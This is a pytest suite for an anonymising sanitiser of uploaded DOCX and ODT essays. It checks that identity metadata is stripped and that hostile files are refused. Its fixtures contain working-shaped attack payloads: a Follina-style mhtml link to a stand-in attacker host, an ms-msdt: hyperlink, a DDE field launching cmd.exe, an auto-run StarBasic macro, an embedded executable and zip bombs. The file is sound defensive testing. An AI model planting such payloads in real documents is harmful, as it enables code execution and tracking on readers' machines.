"""Hand-built hostile office files, for what a real producer will not write: each is rebuilt clean or refused."""

from __future__ import annotations

import io
import struct
import zipfile

import docx
import pytest
from lxml import etree
from PIL import Image

from assessment.anonymity import strip_identity
from assessment.errors import UploadRejected
from assessment.stripping import package as office_package
from tests.support.office_corpus import EMAIL, LOGIN, NAME, needles, photo

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
NAMESPACES = (
    f'xmlns:w="{W}" xmlns:r="{R}" xmlns:v="urn:schemas-microsoft-com:vml" '
    'xmlns:o="urn:schemas-microsoft-com:office:office" '
    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"'
)


def parts(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def traces(data: bytes) -> list[tuple[str, bytes]]:
    return [(name, needle) for name, content in parts(data).items() for needle in needles()
            if needle.lower() in content.lower()]


def rezip(files: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return out.getvalue()


def hostile_docx(*, extra: dict[str, bytes] | None = None, rels: str = "", root_rels: str = "", body: str = "",
                 settings: str = "") -> bytes:
    """python-docx's own template (it already holds customXml, a thumbnail and webSettings) plus what is asked."""
    document = docx.Document()
    document.add_paragraph("The essay itself")
    saved = io.BytesIO()
    document.save(saved)
    files = parts(saved.getvalue())
    files["docProps/thumbnail.jpeg"] = photo()  # a thumbnail with its own EXIF, as phones' editors write them
    files["customXml/item1.xml"] = f"<root><author>{NAME}</author><account>{EMAIL}</account></root>".encode()
    files["word/_rels/document.xml.rels"] = files["word/_rels/document.xml.rels"].replace(
        b"</Relationships>", rels.encode() + b"</Relationships>")
    files["_rels/.rels"] = files["_rels/.rels"].replace(b"</Relationships>", root_rels.encode() + b"</Relationships>")
    xml = files["word/document.xml"].decode()
    head, tail = xml.split("<w:body>", 1)
    for declaration in NAMESPACES.split(" "):
        if declaration.split("=")[0] + "=" not in head:
            head = head.replace(f'xmlns:w="{W}"', f'xmlns:w="{W}" {declaration}')
    files["word/document.xml"] = (head + "<w:body>" + body + tail).encode()
    files["word/settings.xml"] = files["word/settings.xml"].replace(b"</w:settings>", settings.encode() + b"</w:settings>")
    files.update(extra or {})
    return rezip(files)


def relationship(rel_id: str, kind: str, target: str, external: bool = False) -> str:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="{rel_id}" Type="{REL}{kind}" Target="{target}"{mode}/>'


def embedded_docx() -> bytes:
    inner = docx.Document()
    inner.add_paragraph("an embedded document")
    inner.core_properties.author = NAME
    saved = io.BytesIO()
    inner.save(saved)
    return saved.getvalue()


# --- DOCX: what is left behind ------------------------------------------------------------------------------------


def test_the_hostile_docx_really_names_its_author():
    data = hostile_docx(settings=f'<w:docVars><w:docVar w:name="student" w:val="{NAME}"/></w:docVars>')
    named = {name for name, _ in traces(data)}
    assert {"customXml/item1.xml", "docProps/thumbnail.jpeg", "word/settings.xml"} <= named


def test_custom_xml_doc_variables_thumbnail_and_web_settings_are_left_behind():
    data = hostile_docx(settings=f'<w:docVars><w:docVar w:name="student" w:val="{NAME}"/></w:docVars>')
    stripped = parts(strip_identity(data, "docx"))
    assert not [name for name in stripped if name.startswith(("customXml/", "docProps/thumbnail"))]
    assert "word/webSettings.xml" not in stripped
    assert b"docVar" not in stripped["word/settings.xml"]
    assert traces(strip_identity(data, "docx")) == []


def test_an_embedded_document_with_its_own_properties_is_left_behind_and_its_object_unlinked():
    data = hostile_docx(
        extra={"word/embeddings/Microsoft_Word_Document.docx": embedded_docx(), "word/media/preview.png": png()},
        rels=relationship("rId90", "package", "embeddings/Microsoft_Word_Document.docx")
        + relationship("rId91", "image", "media/preview.png"),
        body='<w:p><w:r><w:object><v:shape id="s1" style="width:40pt;height:30pt"><v:imagedata r:id="rId91" '
             'o:title="C:/Users/alice.smith/Desktop/draft"/></v:shape><o:OLEObject Type="Embed" ProgID="Word.Document.12" '
             'ShapeID="s1" r:id="rId90"/></w:object></w:r></w:p>',
    )
    stripped = strip_identity(data, "docx")
    assert not [name for name in parts(stripped) if "embeddings" in name]
    assert traces(stripped) == []
    body = parts(stripped)["word/document.xml"]
    assert b"OLEObject" not in body and b"imagedata" in body  # the object's picture still shows
    docx.Document(io.BytesIO(stripped))


def test_links_that_would_reach_a_server_on_opening_go_and_web_hyperlinks_stay():
    data = hostile_docx(
        rels=relationship("rId80", "hyperlink", "https://example.org/source", external=True)
        + relationship("rId81", "hyperlink", "file://fileserver.example.edu/home/alice.smith/notes.docx", external=True)
        + relationship("rId82", "hyperlink", "\\\\fileserver.example.edu\\alice.smith\\notes.docx", external=True)
        + relationship("rId83", "image", "http://tracker.example.edu/alice.smith.png", external=True)
        + relationship("rId84", "subDocument", "file:///C:/Users/alice.smith/chapter2.docx", external=True)
        + relationship("rId85", "frame", "http://tracker.example.edu/alice.smith/frame.html", external=True),
        body='<w:p><w:hyperlink r:id="rId80"><w:r><w:t>web source</w:t></w:r></w:hyperlink>'
             '<w:hyperlink r:id="rId81"><w:r><w:t>notes on a share</w:t></w:r></w:hyperlink>'
             '<w:hyperlink r:id="rId82"><w:r><w:t>notes by UNC</w:t></w:r></w:hyperlink>'
             '<w:r><w:drawing><a:blip r:link="rId83"/></w:drawing></w:r><w:subDoc r:id="rId84"/></w:p>',
        settings=relationship_free_template(),
        extra={"word/_rels/settings.xml.rels": rels_part(
            relationship("rId1", "attachedTemplate", "http://templates.example.edu/alice.smith/macros.dotm", True))},
    )
    stripped = strip_identity(data, "docx")
    assert traces(stripped) == []
    all_bytes = b"".join(parts(stripped).values())
    assert b"tracker.example.edu" not in all_bytes and b"templates.example.edu" not in all_bytes
    document = docx.Document(io.BytesIO(stripped))
    assert [rel.target_ref for rel in document.part.rels.values() if rel.is_external] == ["https://example.org/source"]
    text = "".join(node.text or "" for node in etree.fromstring(parts(stripped)["word/document.xml"]).iter(f"{{{W}}}t"))
    assert "notes on a share" in text and "notes by UNC" in text and "web source" in text


def relationship_free_template() -> str:
    return '<w:attachedTemplate r:id="rId1"/>'


def rels_part(*relationships: str) -> bytes:
    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns='
            '"http://schemas.openxmlformats.org/package/2006/relationships">' + "".join(relationships)
            + "</Relationships>").encode()


def png(size: tuple[int, int] = (60, 40)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(out, "PNG")
    return out.getvalue()


def test_pictures_in_a_docx_are_drawn_again_without_their_records_and_a_tiff_becomes_a_png():
    tiff = io.BytesIO()
    Image.new("RGB", (50, 20), (0, 128, 0)).save(tiff, "TIFF", description=f"scanned by {NAME}")
    data = hostile_docx(
        extra={"word/media/photo.jpeg": photo(), "word/media/scan.tiff": tiff.getvalue(),
               "word/media/drawing.emf": b"\x01\x00\x00\x00" + NAME.encode() * 10},
        rels=relationship("rId70", "image", "media/photo.jpeg") + relationship("rId71", "image", "media/scan.tiff")
        + relationship("rId72", "image", "media/drawing.emf"),
        body='<w:p><w:r><w:drawing><a:blip r:embed="rId70"/></w:drawing></w:r><w:r><w:drawing><a:blip r:embed="rId71"/>'
             '</w:drawing></w:r><w:r><w:drawing><a:blip r:embed="rId72"/></w:drawing></w:r></w:p>',
    )
    stripped = strip_identity(data, "docx")
    files = parts(stripped)
    assert traces(stripped) == []
    assert sorted(name for name in files if name.startswith("word/media/")) == ["word/media/photo.jpeg",
                                                                                 "word/media/scan.png"]
    with Image.open(io.BytesIO(files["word/media/photo.jpeg"])) as picture:
        assert picture.size == (320, 240) and not picture.getexif()
    assert b'Target="media/scan.png"' in files["word/_rels/document.xml.rels"]
    assert b'Extension="png" ContentType="image/png"' in files["[Content_Types].xml"]
    assert b'r:embed="rId72"' not in files["word/document.xml"]  # the vector drawing is gone, not dangling


def test_the_rebuilt_docx_lists_exactly_the_parts_it_holds():
    stripped = parts(strip_identity(hostile_docx(), "docx"))
    types = etree.fromstring(stripped["[Content_Types].xml"])
    overrides = {element.get("PartName").lstrip("/") for element in types if element.get("PartName")}
    defaults = {element.get("Extension") for element in types if element.get("Extension")}
    assert overrides <= set(stripped)
    for name in stripped:
        assert name in overrides or name.rpartition(".")[2] in defaults, name
    for name, content in stripped.items():
        if name.endswith(".rels"):
            source = name.replace("_rels/", "").removesuffix(".rels")
            for rel in etree.fromstring(content):
                if rel.get("TargetMode") != "External":
                    target = office_package.resolve(source, rel.get("Target"))
                    assert target in stripped, (name, rel.get("Target"))


def test_editing_session_ids_and_document_ids_are_left_behind():
    stripped = parts(strip_identity(hostile_docx(settings='<w:rsids><w:rsidRoot w:val="00FC693F"/></w:rsids>'), "docx"))
    assert b"rsid" not in stripped["word/document.xml"] and b"rsid" not in stripped["word/settings.xml"]


def test_fields_that_show_the_author_from_their_profile_show_a_neutral_name_and_xml_comments_go():
    body = (f'<!-- saved by {NAME} --><w:p><w:fldSimple w:instr=" AUTHOR "><w:r><w:t>{NAME}</w:t></w:r></w:fldSimple>'
            '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> USER</w:instrText></w:r>'
            '<w:r><w:instrText>NAME \\* MERGEFORMAT </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
            f'<w:r><w:t>Alice</w:t></w:r><w:r><w:t> Smith</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
            '<w:r><w:t xml:space="preserve"> wrote this; </w:t></w:r>'
            '<w:fldSimple w:instr=" DATE "><w:r><w:t>1 March 2026</w:t></w:r></w:fldSimple></w:p>')
    stripped = strip_identity(hostile_docx(body=body), "docx")
    assert traces(stripped) == []
    text = "".join(node.text or "" for node in etree.fromstring(parts(stripped)["word/document.xml"]).iter(f"{{{W}}}t"))
    assert "Anonymous" in text and "Anonymous wrote this; 1 March 2026" in text


# --- DOCX: what is refused ----------------------------------------------------------------------------------------


def ole_package_with_program() -> bytes:
    # An OLE "Package" object's native data: the file name and the program itself (an MZ header is enough to show it).
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 24 + b"\x02\x00invoice.exe\x00" + b"MZ\x90\x00" + b"\x00" * 64


def test_a_docx_with_an_embedded_ole_package_holding_a_program_is_refused_with_what_to_do():
    data = hostile_docx(extra={"word/embeddings/oleObject1.bin": ole_package_with_program()},
                        rels=relationship("rId60", "oleObject", "embeddings/oleObject1.bin"),
                        body='<w:p><w:r><w:object><o:OLEObject Type="Embed" ProgID="Package" r:id="rId60"/>'
                             "</w:object></w:r></w:p>")
    with pytest.raises(UploadRejected, match=r"embedded object or program.*paste it as a picture"):
        strip_identity(data, "docx")


def test_a_docx_with_an_ole_binary_that_nothing_points_at_is_refused_too():
    with pytest.raises(UploadRejected, match="embedded object or program"):
        strip_identity(hostile_docx(extra={"word/embeddings/oleObject1.bin": ole_package_with_program()}), "docx")


@pytest.mark.parametrize("target", [
    "mhtml:http://attacker.example/page.html!x-usc:http://attacker.example/page.html",  # Follina
    "http://attacker.example/object.html",
])
def test_a_docx_with_an_external_ole_object_link_is_refused_with_what_to_do(target):
    data = hostile_docx(rels=relationship("rId61", "oleObject", target, external=True),
                        body='<w:p><w:r><w:object><o:OLEObject Type="Link" ProgID="htmlfile" r:id="rId61" '
                             'UpdateMode="OnCall"/></w:object></w:r></w:p>')
    with pytest.raises(UploadRejected, match=r"links to an object or program outside the file.*Break Link"):
        strip_identity(data, "docx")


def test_a_docx_with_a_hyperlink_to_a_windows_program_scheme_is_refused():
    data = hostile_docx(rels=relationship("rId62", "hyperlink", "ms-msdt:/id PCWDiagnostic /skip force", True))
    with pytest.raises(UploadRejected, match="links to an object or program outside the file"):
        strip_identity(data, "docx")


def test_a_docx_with_a_dde_field_is_refused():
    body = ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDE</w:instrText></w:r>'
            '<w:r><w:instrText>AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
    with pytest.raises(UploadRejected, match="run programs"):
        strip_identity(hostile_docx(body=body), "docx")


def test_a_docx_with_macros_is_refused_even_when_stripped_directly():
    with pytest.raises(UploadRejected, match="contains macros"):
        strip_identity(hostile_docx(extra={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0macros"}), "docx")


# --- limits -------------------------------------------------------------------------------------------------------


def test_a_part_that_inflates_far_beyond_its_compressed_size_is_refused():
    data = hostile_docx(extra={"word/media/zeros.png": b"\x00" * (5 * 1024 * 1024)})
    assert len(data) < 100_000
    with pytest.raises(UploadRejected, match="unpacks to more than"):
        strip_identity(data, "docx")


def test_a_docx_below_the_ratio_and_size_limits_is_accepted():
    # A long essay of ordinary XML compresses well but far from a bomb's ratio: it passes.
    paragraph = "<w:p><w:r><w:t>Peer review is a conversation about the work, paragraph {}.</w:t></w:r></w:p>"
    body = "".join(paragraph.format(number) for number in range(40_000))
    assert len(body) > office_package.RATIO_FROM_BYTES
    stripped = strip_identity(hostile_docx(body=body), "docx")
    assert b"paragraph 39999." in parts(stripped)["word/document.xml"]


def test_a_zip_header_that_understates_a_part_is_not_believed():
    data = bytearray(rezip({"word/document.xml": f'<w:document xmlns:w="{W}"><w:body>'.encode()
                                                 + b"<w:p/>" * 200_000 + b"</w:body></w:document>"}))
    # Claim the part unpacks to 1 KB in both the local header and the central directory.
    for signature, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        position = data.find(signature)
        data[position + offset:position + offset + 4] = struct.pack("<I", 1024)
    with pytest.raises(UploadRejected):
        strip_identity(bytes(data), "docx")


def test_a_package_with_too_many_parts_is_refused_before_any_is_read(monkeypatch):
    monkeypatch.setattr(office_package, "MAX_PARTS", 20)
    files = {f"word/media/{number}.png": b"" for number in range(21)}
    files["word/document.xml"] = f'<w:document xmlns:w="{W}"/>'.encode()
    with pytest.raises(UploadRejected, match="could not be read"):
        strip_identity(rezip(files), "docx")


# --- ODT ----------------------------------------------------------------------------------------------------------

ODF = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" '
    'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
    'xmlns:config="urn:oasis:names:tc:opendocument:xmlns:config:1.0" '
    'xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0" '
    'office:version="1.3"'
)


def hostile_odt(*, body: str = "", scripts: str = "", extra: dict[str, bytes] | None = None) -> bytes:
    content = (f"<office:document-content {ODF}>{scripts}<office:body><office:text><text:p>The essay itself</text:p>"
               f"{body}</office:text></office:body></office:document-content>")
    meta = (f"<office:document-meta {ODF}><office:meta><meta:initial-creator>{NAME}</meta:initial-creator>"
            f'<meta:template xlink:href="../../../../C:/Users/{LOGIN}/Templates/Essay.ott"/>'
            f"<meta:printed-by>{NAME}</meta:printed-by></office:meta></office:document-meta>")
    settings = (f"<office:document-settings {ODF}><office:settings><config:config-item-set "
                'config:name="ooo:configuration-settings"><config:config-item config:name="PrinterName" '
                'config:type="string">PRN-ASMITH-4200</config:config-item><config:config-item '
                'config:name="PrinterSetup" config:type="base64Binary">UFJOLUFTTUlUSC00MjAw</config:config-item>'
                '<config:config-item config:name="TabsRelativeToIndent" config:type="boolean">true</config:config-item>'
                "</config:config-item-set></office:settings></office:document-settings>")
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(zipfile.ZipInfo("mimetype"), b"application/vnd.oasis.opendocument.text", zipfile.ZIP_STORED)
        archive.writestr("content.xml", content)
        archive.writestr("meta.xml", meta)
        archive.writestr("settings.xml", settings)
        archive.writestr("META-INF/manifest.xml", "<manifest/>")
        for name, data in (extra or {}).items():
            archive.writestr(name, data)
    return out.getvalue()


def test_an_odt_loses_its_template_printer_thumbnail_embedded_object_and_linked_picture():
    inner_meta = (f"<office:document-meta {ODF}><office:meta><dc:creator>{NAME}</dc:creator></office:meta>"
                  "</office:document-meta>")
    body = ('<text:p><draw:frame><draw:object xlink:href="./Object 1"/>'
            '<draw:image xlink:href="./ObjectReplacements/Object 1"/>'
            '</draw:frame><draw:frame><draw:image xlink:href="http://tracker.example.edu/alice.smith.png"/></draw:frame>'
            '<draw:frame><draw:image xlink:href="Pictures/photo.jpg"/></draw:frame></text:p>'
            f"<!-- {EMAIL} --><text:p><text:author-name>{NAME}</text:author-name> "
            f"<text:sender-email>{EMAIL}</text:sender-email></text:p>")
    data = hostile_odt(body=body, extra={
        "Thumbnails/thumbnail.png": png(), "Object 1/meta.xml": inner_meta.encode(),
        "Object 1/content.xml": b"<math/>", "ObjectReplacements/Object 1": b"SVM1" + NAME.encode(),
        "Pictures/photo.jpg": photo(), "Configurations2/accelerator/current.xml": b"<x/>", "manifest.rdf": b"<rdf/>",
    })
    assert {name for name, _ in traces(data)} >= {"meta.xml", "settings.xml", "Object 1/meta.xml", "Pictures/photo.jpg"}
    stripped = strip_identity(data, "odt")
    files = parts(stripped)
    assert traces(stripped) == []
    assert sorted(files) == ["META-INF/manifest.xml", "Pictures/photo.jpg", "content.xml", "meta.xml", "mimetype",
                             "settings.xml"]
    assert b"tracker.example.edu" not in files["content.xml"] and b"Object 1" not in files["content.xml"]
    assert b"<text:author-name>Anonymous</text:author-name>" in files["content.xml"]
    assert b"TabsRelativeToIndent" in files["settings.xml"] and b"Printer" not in files["settings.xml"]
    manifest = etree.fromstring(files["META-INF/manifest.xml"])
    listed = {entry.get("{urn:oasis:names:tc:opendocument:xmlns:manifest:1.0}full-path") for entry in manifest}
    assert listed == {"/", *(name for name in files if name not in ("mimetype", "META-INF/manifest.xml"))}
    with Image.open(io.BytesIO(files["Pictures/photo.jpg"])) as picture:
        assert picture.size == (320, 240) and not picture.getexif()


def test_an_odt_with_a_starbasic_macro_is_refused_with_what_to_do():
    data = hostile_odt(extra={
        "Basic/script-lc.xml": b"<library:libraries/>",
        "Basic/Standard/Module1.xml":
            b'<script:module script:name="Module1">Sub Main\nShell("calc")\nEnd Sub</script:module>',
    })
    with pytest.raises(UploadRejected, match=r"macros or scripts.*Organize Macros"):
        strip_identity(data, "odt")


def test_an_odt_with_a_script_bound_to_opening_the_document_is_refused():
    scripts = ('<office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" '
               'script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic'
               '&amp;location=document"/></office:event-listeners></office:scripts>')
    with pytest.raises(UploadRejected, match="macros or scripts"):
        strip_identity(hostile_odt(scripts=scripts), "odt")


def test_an_odt_with_a_hyperlink_that_runs_a_macro_is_refused():
    body = '<text:p><text:a xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic">click</text:a></text:p>'
    with pytest.raises(UploadRejected, match="macros or scripts"):
        strip_identity(hostile_odt(body=body), "odt")


def test_an_odt_whose_parts_inflate_like_a_bomb_is_refused():
    data = hostile_odt(extra={"Pictures/zeros.png": b"\x00" * (5 * 1024 * 1024)})
    with pytest.raises(UploadRejected, match="unpacks to more than"):
        strip_identity(data, "odt")
